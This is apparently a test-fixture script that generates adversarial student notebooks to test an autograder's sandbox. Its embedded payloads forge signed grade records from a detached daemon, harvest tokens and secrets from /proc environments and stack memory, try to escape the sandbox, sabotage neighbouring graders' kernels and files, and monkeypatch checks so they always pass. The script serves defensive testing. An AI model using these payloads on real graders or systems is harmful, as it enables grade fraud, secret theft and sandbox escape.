"""Regenerate the bad (and good) submissions in this folder from notebook 04's source.

Run ``python tests/submissions/make_submissions.py`` after changing
``notebooks/04_your_turn.ipynb``; ``expected.json`` holds what each one must
score and why. Each file is a real notebook a student could have saved
(except the two that are deliberately not notebooks at all).
"""

from __future__ import annotations

import copy
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat

HERE = Path(__file__).parent
SOURCE = HERE.parents[1] / "notebooks" / "04_your_turn.ipynb"
HIDDEN = re.compile(r"^### BEGIN HIDDEN TESTS\n.*?^### END HIDDEN TESTS\n?", re.M | re.S)
MARKER = re.compile(r"^### (BEGIN|END) SOLUTION\n?", re.M)

MONKEYPATCH = """
import mtl_teach.exercises._core as core
import mtl_teach.exercises._your_turn_checks as checks
import mtl_teach.grading.in_sandbox.export as export
from mtl_teach.exercises import your_turn as q

for name in ("evaluate_dataloader", "evaluate_task", "evaluate_model", "evaluate_training"):
    setattr(checks, name, lambda *answers: "all good")
for question in (q.dataloader, q.task, q.model, q.training):
    question.check = lambda *answers, _q=question: core.CheckResult(_q.name, core.CORRECT, "all good")
core.CheckResult.passed = property(lambda self: True)
export.export = lambda *args, **kwargs: None
"""

WRITE_OUTPUTS = """
import json
import os
from pathlib import Path

# Walk up the process tree to the grader's command line and find --out.
pid, out = os.getppid(), None
while pid > 1 and out is None:
    args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0")
    if b"--out" in args:
        out = Path(os.fsdecode(args[args.index(b"--out") + 1]))
    pid = int(Path(f"/proc/{pid}/stat").read_text().split(")")[1].split()[1])
if out is None:
    raise RuntimeError("cheat_output_folder: no --out on any parent's command line")
if out is not None:
    fake = {"score": 100, "tests": [{"name": "check_training", "score": 100, "max_score": 3}]}
    (out / "results" / "cheat_output_folder").mkdir(parents=True, exist_ok=True)
    (out / "results" / "cheat_output_folder" / "results.json").write_text(json.dumps(fake))
    (out / "grades.csv").write_text("student,total,max_score\\ncheat_output_folder,100,10\\n")
    (out / "feedback").mkdir(exist_ok=True)
    (out / "feedback" / "cheat_output_folder.html").write_text("<p>Score: 100 / 10</p>")
    record = {"student": "cheat_output_folder", "total": 100, "max_score": 10, "sha256": "x", "items": []}
    with open(out / ".mtl-grade" / "journal.jsonl", "a") as journal:
        journal.write(json.dumps({"record": json.dumps(record), "sig": "0" * 64}) + "\\n")
"""


DAEMON = """
import hashlib
import hmac
import json
import os
import time
from pathlib import Path


def find_grader():
    # Any process whose command line has --out: the grader (from /proc, as far as this kernel sees).
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            cmd = (entry / "cmdline").read_bytes().split(b"\\0")
            if b"--out" in cmd and b"grade" in cmd:
                return int(entry.name), cmd
        except OSError:
            pass
    return None, None


# Find the grader's command line, read its journal key, and forge validly
# signed 10/10 records for every student: now, and from a detached daemon
# that waits for the grader to exit and then also rewrites grades.csv.
def forge(grader, args):
    out = Path(os.fsdecode(args[args.index(b"--out") + 1]))
    cwd = Path(os.readlink(f"/proc/{grader}/cwd"))
    papers = [cwd / os.fsdecode(a) for a in args if a.endswith(b".ipynb")]
    key_file = out / ".mtl-grade" / "key"
    key = key_file.read_bytes().strip() if key_file.exists() else b""
    points = {"check_dataloader": 2, "check_task": 3, "check_model": 2, "check_training": 3}
    with open(out / ".mtl-grade" / "journal.jsonl", "a") as journal:
        for paper in papers:
            items = [{"grade_id": g, "max_points": p, "points": p, "status": "passed", "message": "ok"} for g, p in points.items()]
            record = {"student": paper.stem, "submission": str(paper), "assignment": "04_your_turn", "notes": [], "items": items,
                      "sha256": hashlib.sha256(paper.read_bytes()).hexdigest(), "total": 10, "max_score": 10, "sandbox": True}
            payload = json.dumps(record, sort_keys=True)
            sig = hmac.new(key, payload.encode(), hashlib.sha256).hexdigest()
            journal.write((payload if not key else json.dumps({"record": payload, "sig": sig})) + "\\n")
    return out, papers


if os.fork() == 0:  # the daemon: outlive this kernel, wait for the grader to exit, then strike
    os.setsid()
    if os.fork() == 0:
        seen = None
        for _ in range(1200):
            grader, args = find_grader()
            if grader is not None:
                seen = grader, args
            elif seen is not None:
                out, papers = forge(*seen)
                (out / "grades.csv").write_text("student,total,max_score\\n" + "".join(f"{p.stem},10,10\\n" for p in papers))
                break
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
grader, args = find_grader()
if grader is None:
    raise RuntimeError("cheat_daemon: no grader in sight; the daemon keeps looking")
forge(grader, args)
"""

ESCAPE = """
import os
import site
import socket
from pathlib import Path

import mtl_teach

# Try to break out of the sandbox: from the package's path, guess the checkout
# and go for the answer key, a classmate's work, the environment and the network.


def grader(pid):  # the batch (python -m mtl_teach grade) or one of its workers
    try:
        args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0")
    except OSError:
        return False
    return b"mtl_teach.grading.worker" in args or any(args[i : i + 2] == [b"mtl_teach", b"grade"] for i in range(len(args)))


checkout = Path(mtl_teach.__file__).resolve().parents[1]
site_packages = Path(site.getsitepackages()[0])
attempts = {
    "read the source notebook": lambda: (checkout / "notebooks" / "04_your_turn.ipynb").read_text(),
    "read a classmate's submission": lambda: (checkout / "tests" / "submissions" / "perfect.ipynb").read_text(),
    "rewrite the source notebook": lambda: open(checkout / "notebooks" / "04_your_turn.ipynb", "a").write(" "),
    "plant a .pth in site-packages": lambda: (site_packages / "zz_mtl_escape.pth").write_text("import os\\n"),
    "write into the package": lambda: (Path(mtl_teach.__file__).parent / "escape.py").write_text("x = 1\\n"),
    "reach the network": lambda: socket.create_connection(("1.1.1.1", 53), timeout=2),
    "resolve a name": lambda: socket.getaddrinfo("pypi.org", 443),
    "see the grader's processes": lambda: [p for p in os.listdir("/proc") if p.isdigit() and grader(p)] or 1 / 0,
    "read the machine's /etc": lambda: Path("/etc/hostname").read_text(),
}
escaped = []
for what, attempt in attempts.items():
    try:
        attempt()
        escaped.append(what)
    except Exception:
        pass
raise RuntimeError(f"cheat_escape: escaped: {escaped}" if escaped else "cheat_escape: the sandbox held")
"""

NEIGHBOURS = """
import glob
import json
import os

import zmq

# Sabotage whoever is graded at the same time: overwrite their exported answers in
# their scratch folders, and connect to their kernels through connection files found in
# /proc's command lines, to make their training a no-op.
mine = os.path.dirname(os.path.realpath(os.getcwd()))  # this submission's own scratch folder
hits = []
# Scratch folders sit side by side, in the batch's folder in /tmp (directly in /tmp before that).
for path in glob.glob(os.path.dirname(mine) + "/mtl-grade-*/answers/*.pt") + glob.glob("/tmp/mtl-grade-*/answers/*.pt"):
    if not os.path.realpath(path).startswith(mine + "/"):
        open(path, "wb").write(b"garbage")
        hits.append(path)
for entry in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        args = open(entry, "rb").read().split(b"\\0")
    except OSError:
        continue
    for arg in args:
        if arg.endswith(b".json") and not os.fsdecode(arg).startswith(mine + "/"):
            try:
                info = json.load(open(arg))
            except (OSError, ValueError):
                continue
            socket = zmq.Context.instance().socket(zmq.DEALER)
            socket.connect(f"{info['transport']}://{info['ip']}-{info['shell_port']}" if info["transport"] == "ipc" else f"tcp://{info['ip']}:{info['shell_port']}")
            hits.append(arg.decode())
raise RuntimeError(f"cheat_neighbours: reached {hits}" if hits else "cheat_neighbours: no neighbour in reach")
"""

STDOUT = """
import os
from pathlib import Path

# Reopen every stdout and stderr in sight, this kernel's and every process's in /proc, truncate it
# ("w") and write fake grade lines into the grader's log.
reached = []
for pid in ["self", *(p.name for p in Path("/proc").iterdir() if p.name.isdigit())]:
    for fd in (1, 2):
        target = Path(f"/proc/{pid}/fd/{fd}")
        try:
            with open(target, "w") as stream:
                stream.write("FAKE perfect: 0/10\\nFAKE cheat_stdout: 10/10\\n")
            reached.append(os.readlink(target))
        except OSError:
            pass
raise RuntimeError(f"cheat_stdout: streams reached: {sorted(set(reached))}")
"""

LEAK = """
# Echo the hidden tests (the check cells' source, in the kernel's input history) back through an error.
raise RuntimeError("cheat_leak: " + " | ".join(_ih[-3:-1]))
"""

EXPAND = """
import re

import torch

# After the grader exported the loader, swap in 10**8 points that take 8 bytes: a view with stride 0.
# Saved, it is 1.5 kB; checked as if it held its shape, it takes gigabytes and minutes.
paths = [path for source in _ih for path in re.findall(r"_mtl_export\\.export\\('([^']+)'", source)]
target = next(path for path in paths if path.endswith("check_dataloader.pt"))
description = torch.load(target, weights_only=True)
loader = description["values"]["inv_dataloader"]
loader["X"] = {"inv_circle_data": torch.zeros(1, 2).expand(10**8, 2)}
loader["Y"] = {"inv_circle_task": torch.zeros(1, dtype=torch.long).expand(10**8)}
torch.save(description, target)
"""

# --- issue 22: what a kernel can leave behind or send, and what the trusted side does with it ----------

ENVIRONMENT = """
import os
import re

# Look for the grader's secrets (an instructor's tokens, cloud keys) everywhere a kernel can read:
# its environment, every /proc/*/environ in sight, and its own stack, where a forked process keeps the
# environment its parent started with.
pattern = re.compile(rb"[A-Z_]*(?:TOKEN|SECRET|PASSWORD|ACCESS_KEY)[A-Z_]*=[^\\\\0]{4,}")
found, places = set(), 0
blobs = ["\\\\0".join(f"{k}={v}" for k, v in os.environ.items()).encode()]
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        blobs.append(open(f"/proc/{pid}/environ", "rb").read())
    except OSError:
        pass
for line in open("/proc/self/maps"):
    if line.rstrip().endswith("[stack]"):
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        with open("/proc/self/mem", "rb") as memory:
            memory.seek(start)
            blobs.append(memory.read(end - start))
for blob in blobs:
    places += 1
    found.update(match.decode(errors="replace") for match in pattern.findall(blob))
if found:
    inv_dataloader = None  # a leak costs this step's points, so it shows in the grade as well as in the text
    raise RuntimeError(f"cheat_environment found the grader's secrets: {sorted(found)}")
raise RuntimeError(f"cheat_environment: no secret in {places} places")
"""

LEFTOVERS = """
import os
import time
from pathlib import Path

# A path of the grader's machine (this kernel's /tmp is its own), where every link below points.
TARGET = "/tmp/mtl-teach-planted-by-a-kernel"
work, home = Path.cwd(), Path(os.environ["HOME"])  # this run's folders, on the grader's disk or in its scratch
# 1. Links where the grader makes its next folders: beside this run's folders, and beside this run.
for folder in {work.parent, work.parent.parent}:
    for name in ("first", "work", "answers", "private", "kernels", *(f"reference-{i}" for i in range(4))):
        try:
            os.symlink(TARGET, folder / name)
        except OSError:
            pass
# 2. A folder chain 1500 deep, a pipe and a link on the way, and folders the grader may not read or write.
os.chdir(home)
for depth in range(1500):
    os.mkdir("d")
    os.chdir("d")
    if depth % 500 == 250:
        os.mkfifo("pipe")
        os.symlink(TARGET, "link")
os.chdir(work)
os.chmod(home / "d" / "d" / "d", 0o000)
os.chmod(home / "d", 0o500)
time.sleep(1)  # let the grader see it all
"""

HISTORY_SOURCE = """
import codecs

# What this kernel was given to run beyond the student's own code: in a rerun, the answer key (the
# reference loader keeps Y_train as it is); in any run, the hidden tests (they assert). Encoded, no
# line-by-line redaction recognises it.
needle = "LongTensor(" + "Y_train)"  # not a line of its own
held = [line.strip() for source in In[:-1] for line in source.splitlines()]
held = [line for line in held if needle in line or line.startswith("assert ")]
"""
HISTORY_STEP = (
    HISTORY_SOURCE
    + """
if held:  # a rerun: the answer key is here
    del model  # the grader's feedback then quotes this cell's error, to say why the answer is missing
    raise RuntimeError("cheat_history: " + codecs.encode(" | ".join(held), "rot13"))
"""
)
HISTORY_TAIL = (
    HISTORY_SOURCE
    + """
raise RuntimeError("cheat_history: " + codecs.encode(" | ".join(held) or "nothing held", "rot13"))
"""
)

MESSAGES = """
from IPython import get_ipython
from IPython.display import display

kernel = get_ipython().kernel
session, iopub, parent = kernel.session, kernel.iopub_socket, kernel.get_parent()
# Messages signed with the kernel's own key, malformed: each made nbclient raise inside the grader.
session.send(iopub, "display_data", {"metadata": {}}, parent=parent)  # no data
session.send(iopub, "stream", {"name": "stdout", "text": ["not", "a", "string"]}, parent=parent)
session.send(iopub, "display_data", {"data": {}, "metadata": {}, "transient": {"display_id": ["x"]}}, parent=parent)
session.send(iopub, "error", {"ename": "E", "evalue": "v", "traceback": 5}, parent=parent)
# And one display of 100 MB, which the grader received and copied whole.
display({"text/plain": "x" * 100_000_000}, raw=True)
"""

LOOKUP_TABLE = """
import torch
from torch import nn

from mtl_teach.exercises._your_turn_checks import FRESH_SEED, TASKS
from mtl_teach.toy_data import make_tutorial_dataloaders

# The training check scores on "fresh data" of a seed the package holds: tabulate those points and make the
# shared trunk a lookup table of their labels. Right on them, it guesses everywhere else.
points, labels = [], []
for loader in make_tutorial_dataloaders(TASKS, seed=FRESH_SEED):
    (task,) = loader.dataset.Y_dict
    (X,) = loader.dataset.X_dict.values()
    points.append(X.double())
    labels += [(TASKS.index(task), 1.0 if y == 1 else -1.0) for y in loader.dataset.Y_dict[task].tolist()]
points = torch.cat(points)
t = points @ torch.tensor([0.7390851, 0.6736], dtype=torch.float64)  # one direction: every point its own t
order = torch.argsort(t)
knots = torch.cat([t[order][:1] - 1, t[order], t[order][-1:] + 1])
n = len(order)
first, second, third = nn.Linear(2, n + 2), nn.Linear(n + 2, n), nn.Linear(n, 4)
with torch.no_grad():
    first.weight.copy_(torch.tensor([[0.7390851, 0.6736]]).repeat(n + 2, 1))
    first.bias.copy_(-knots.float())
    gaps = knots[1:] - knots[:-1]  # a hat on each point: 1 there, 0 at its neighbours
    rows = torch.arange(n)
    second.weight.zero_()
    second.bias.zero_()
    second.weight[rows, rows] = (1 / gaps[:-1]).float()
    second.weight[rows, rows + 1] = (-(1 / gaps[:-1] + 1 / gaps[1:])).float()
    second.weight[rows, rows + 2] = (1 / gaps[1:]).float()
    third.weight.zero_()
    third.bias.zero_()
    for column, index in enumerate(order.tolist()):
        row, value = labels[index]
        third.weight[row, column] = value
    while len(base_mlp):  # the shared trunk, rebuilt in place: every task still holds it
        del base_mlp[0]
    for layer in (first, nn.ReLU(), second, nn.ReLU(), third):
        base_mlp.append(layer)
    for k, head in enumerate(model.module_pool[f"{name.removesuffix('_task')}_head"] for name in TASKS):
        head.weight.zero_()
        head.bias.zero_()
        head.weight[1, k], head.weight[0, k] = 1.0, -1.0
trainer = None
"""

HUGE_OUTPUT = """
import sys

line = "spam " * 2000 + "\\n"
for _ in range(2500):  # 25 MB, 10 kB at a time
    print(line, end="")
print("x" * 20_000_000)  # one 20 MB line
sys.stderr.write("e" * 5_000_000)
"z" * 5_000_000  # and a 5 MB result
"""


def solved() -> Any:
    """The source with hidden tests removed and solution markers dropped: a perfect student."""
    notebook = nbformat.read(SOURCE, as_version=4)
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.source = MARKER.sub("", HIDDEN.sub("", cell.source)).strip("\n")
            cell.outputs, cell.execution_count = [], None
    notebook.metadata["mtl_teach"] = {"assignment": "04_your_turn"}
    return notebook


def stub() -> Any:
    return nbformat.read(HERE.parents[1] / "notebooks" / "student" / "04_your_turn.ipynb", as_version=4)


def cell(notebook: Any, gid: str) -> Any:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def edit(gid: str, change: Callable[[str], str], base: Callable[[], Any] = solved) -> Callable[[], Any]:
    def make() -> Any:
        notebook = base()
        target = cell(notebook, gid)
        target.source = change(target.source)
        return notebook

    return make


def with_stubs(*gids: str) -> Callable[[], Any]:
    """The solved notebook with these solution cells left as the stub."""

    def make() -> Any:
        notebook, student = solved(), stub()
        for gid in gids:
            cell(notebook, gid).source = cell(student, gid).source
        return notebook

    return make


def drop(*gids: str) -> Callable[[], Any]:
    def make() -> Any:
        notebook = solved()
        notebook.cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in gids]
        return notebook

    return make


def reordered() -> Any:
    notebook = solved()
    notebook.cells.reverse()
    return notebook


def duplicated() -> Any:
    notebook = solved()
    index = notebook.cells.index(cell(notebook, "inv_circle_task"))
    notebook.cells.insert(index, copy.deepcopy(notebook.cells[index]))
    first = notebook.cells[index]
    first.id = "inv-circle-task-first-try"
    first.source = first.source.replace("nn.Linear(4, 2)", "nn.Linear(4, 4)")  # an earlier, wrong try
    return notebook


def retagged() -> Any:
    notebook = solved()
    model = cell(notebook, "model")
    model.metadata["nbgrader"] = {
        "schema_version": 3,
        "grade_id": "check_model",
        "grade": True,
        "points": 100,
        "solution": False,
        "locked": True,
    }
    for other in notebook.cells:  # and strip the metadata of the task cell, as copy-paste does
        if other.metadata.get("nbgrader", {}).get("grade_id") == "inv_circle_task":
            other.metadata = {}
    return notebook


def untagged() -> Any:
    notebook = solved()
    for c in notebook.cells:
        c.metadata = {}
    notebook.metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3"}}
    return notebook


def with_cells_after(gid: str, *sources: str, base: Callable[[], Any] = solved) -> Callable[[], Any]:
    """The ``base`` notebook (default: solved) with the student's own code cells added after cell ``gid``."""

    def make() -> Any:
        notebook = base()
        index = notebook.cells.index(cell(notebook, gid)) + 1
        # Fixed ids (nbformat draws random ones), so regenerating leaves the committed files unchanged.
        added = [nbformat.v4.new_code_cell(text, id=f"{gid}-mine-{i}") for i, text in enumerate(sources)]
        notebook.cells[index:index] = added
        return notebook

    return make


def append_to(gid: str, text: str, base: Callable[[], Any] = solved) -> Callable[[], Any]:
    return edit(gid, lambda source: source + "\n" + text.strip("\n"), base)


def prepend_to(gid: str, text: str, base: Callable[[], Any] = solved) -> Callable[[], Any]:
    return edit(gid, lambda source: text.strip("\n") + "\n" + source, base)


def replace_solution(source: str, text: str) -> str:
    """``source`` (a solved cell) with the code before its last line (the cell's own given line) replaced by ``text``."""
    given = source.rstrip("\n").splitlines()[-1]
    return text.strip("\n") + "\n" + given


STUB_TAIL = ("inv_circle_task", "model", "training")
FLIPPED = edit(
    "inv_dataloader", lambda source: source.replace("torch.LongTensor(Y_train)", "torch.LongTensor(1 - Y_train)")
)
MAKERS: dict[str, Callable[[], Any]] = {
    "perfect": solved,
    "stub": stub,
    "raises": edit("model", lambda source: source.replace("inv_circle_task])", "inv_circle_task, 1 / 0])")),
    "infinite_loop": prepend_to("training", "while True:\n    pass"),
    "memory_hog": prepend_to("training", "blocks = []\nwhile True:\n    blocks.append(bytearray(2**26))"),
    "huge_output": append_to("inv_dataloader", HUGE_OUTPUT),
    "os_exit": append_to("model", "import os\n\nos._exit(1)"),
    "sys_exit": append_to("inv_dataloader", "sys.exit(0)"),
    "deleted_checks": drop(
        "given", "setup", "check_dataloader", "check_task", "check_model", "check_training", "tutorial_checks"
    ),
    "deleted_solution": drop("inv_circle_task"),
    "reordered": reordered,
    "duplicated": duplicated,
    "retagged": retagged,
    "untagged": untagged,
    "cheat_monkeypatch": append_to("inv_dataloader", MONKEYPATCH, with_stubs(*STUB_TAIL)),
    "cheat_print": append_to(
        "inv_dataloader", 'print("Correct (task): all tests passed. Score: 10/10")', with_stubs(*STUB_TAIL)
    ),
    "cheat_edit_tests": edit(
        "check_task", lambda _: "pass", edit("check_training", lambda _: 'print("passed")', with_stubs(*STUB_TAIL))
    ),
    "cheat_transformer": append_to(
        "inv_dataloader",
        'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])',
        with_stubs(*STUB_TAIL),
    ),
    "cheat_custom_exc": append_to(
        "inv_dataloader",
        "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)",
        with_stubs(*STUB_TAIL),
    ),
    "cheat_output_folder": append_to("inv_dataloader", WRITE_OUTPUTS, with_stubs(*STUB_TAIL)),
    "cheat_daemon": append_to("inv_dataloader", DAEMON, with_stubs(*STUB_TAIL)),
    "cheat_escape": append_to("inv_dataloader", ESCAPE, with_stubs(*STUB_TAIL)),
    "cheat_neighbours": append_to("inv_dataloader", NEIGHBOURS),
    "cheat_leak": append_to("inv_circle_task", LEAK),
    "cheat_stdout": append_to("inv_dataloader", STDOUT),
    "cheat_expand": with_cells_after("check_training", EXPAND),
    # Eight honest attempts, each with the mistake a student makes. Every step is graded on its own:
    # a wrong step costs its own points, and the later steps run on the reference answer for it.
    "attempt_new_trunk": edit(
        "inv_circle_task",
        lambda source: source.replace(
            '"base_mlp": base_mlp', '"base_mlp": nn.Sequential(nn.Linear(2, 8), nn.ReLU(), nn.Linear(8, 4), nn.ReLU())'
        ),
    ),
    "attempt_head_4_1": edit("inv_circle_task", lambda source: source.replace("nn.Linear(4, 2)", "nn.Linear(4, 1)")),
    "attempt_wrong_field": edit(
        "inv_circle_task", lambda source: source.replace('("_input_", "inv_circle_data")', '("_input_", "circle_data")')
    ),
    "attempt_model_raises": edit(
        "model", lambda source: source.replace("inv_circle_task])", "inv_circle_task, inv_circle_task])")
    ),
    "attempt_x_key": edit(
        "inv_dataloader", lambda source: source.replace('X_dict = {"inv_circle_data"', 'X_dict = {"inv_circle_task"')
    ),
    "attempt_flipped_labels": edit(
        "inv_dataloader", lambda source: source.replace("torch.LongTensor(Y_train)", "torch.LongTensor(1 - Y_train)")
    ),
    "attempt_old_loaders": edit(
        "training", lambda source: source.replace("fit(model, all_dataloaders)", "fit(model, dataloaders)")
    ),
    "attempt_two_mistakes": edit(
        "training",
        lambda source: source.replace("lr=0.02", "lr=0.0002"),
        edit("inv_circle_task", lambda source: source.replace("nn.Linear(4, 2)", "nn.Linear(4, 1)")),
    ),
    # Issue 22: what a kernel can leave behind, send or know, each aimed at the trusted side.
    "cheat_environment": append_to("inv_dataloader", ENVIRONMENT, with_stubs(*STUB_TAIL)),
    "cheat_leftovers": with_cells_after("check_training", LEFTOVERS, base=FLIPPED),
    "cheat_history": with_cells_after(
        "check_training", HISTORY_TAIL, base=prepend_to("training", HISTORY_STEP, FLIPPED)
    ),
    "cheat_messages": append_to("inv_dataloader", MESSAGES),
    "cheat_lookup_table": edit("training", lambda _: LOOKUP_TABLE.strip("\n")),
}


# Not in the committed batch: tests/test_grading.py grades them on their own with a short
# --notebook-timeout. slow_cells: each cell sleeps well under the cell time limit; together they run
# over. slow_every_step: every step is wrong and slow, so each would be rerun on its own (issue 22:
# four runs of the whole notebook); the submission's one time budget stops that.
SLOW_CELLS = with_cells_after("check_model", *["import time\n\ntime.sleep(5)"] * 5)
SLOW = "import time\n\ntime.sleep(6)\n"
SLOW_EVERY_STEP = edit(
    "inv_circle_task",
    lambda source: SLOW + source.replace("nn.Linear(4, 2)", "nn.Linear(4, 1)"),
    edit(
        "model",
        lambda source: SLOW + source.replace("inv_circle_task])", "inv_circle_task, inv_circle_task])"),
        edit(
            "training",
            lambda source: SLOW + source.replace("lr=0.02", "lr=0.0002"),
            prepend_to("inv_dataloader", SLOW, FLIPPED),
        ),
    ),
)


# The student's own code in step 1 breaks what the answer key of step 2 needs: their step 2 fails, their
# step 3 too, and the rerun that grades step 3 on the reference step 2 finds the reference failing. A
# grader fault (issue 22, section 2): the submission is not scored, and grade exits 1 naming it.
SABOTAGED_REFERENCE = append_to("inv_dataloader", "Task = None  # what the answer key of step 2 calls")


def main() -> None:
    nbformat.write(SLOW_CELLS(), HERE / "slow" / "slow_cells.ipynb")
    nbformat.write(SLOW_EVERY_STEP(), HERE / "slow" / "slow_every_step.ipynb")
    nbformat.write(SABOTAGED_REFERENCE(), HERE / "slow" / "sabotaged_reference.ipynb")
    for name, make in MAKERS.items():
        nbformat.write(make(), HERE / f"{name}.ipynb")
    (HERE / "invalid_json.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "print(1)"\n')
    (HERE / "empty.ipynb").write_text("")


if __name__ == "__main__":
    main()
